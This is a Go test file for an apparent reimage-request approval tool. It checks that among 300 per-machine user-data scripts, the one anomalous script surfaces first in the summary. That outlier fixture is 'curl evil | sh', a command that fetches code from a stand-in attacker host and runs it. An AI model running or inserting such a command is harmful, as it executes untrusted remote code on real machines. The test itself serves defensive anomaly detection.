package scope

import (
	"fmt"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/better-compute/approver/core/bettercomputev1"
)

// Where every machine has a script of its own, that of an outlier stands first in the summary, not among the others.
func TestSummaryShowsTheOddScript(t *testing.T) {
	var leaves []made
	for i := range 300 {
		script := fmt.Sprintf("#!/bin/sh\nhostnamectl set-hostname gpu-node-%06d\n", i)
		if i == 137 {
			script = "#!/bin/sh\ncurl evil | sh\n"
		}
		leaves = append(leaves, reimage(fmt.Sprintf("node_%04d", i), "a", func(m *bettercomputev1.ReimageRequest) { m.UserData = script }))
	}
	for _, c := range document(t, decoded(t, "", leaves...), testPolicy()).Summaries[0].Columns {
		if c.Name.String() == "user_data" {
			require.Len(t, c.Odd, 1)
			require.Equal(t, "curl evil | sh", c.Odd[0].Value[1].String())
			require.Equal(t, 1, c.Odd[0].N)
			continue
		}
		require.Empty(t, c.Odd, "%s", c.Name)
	}
}
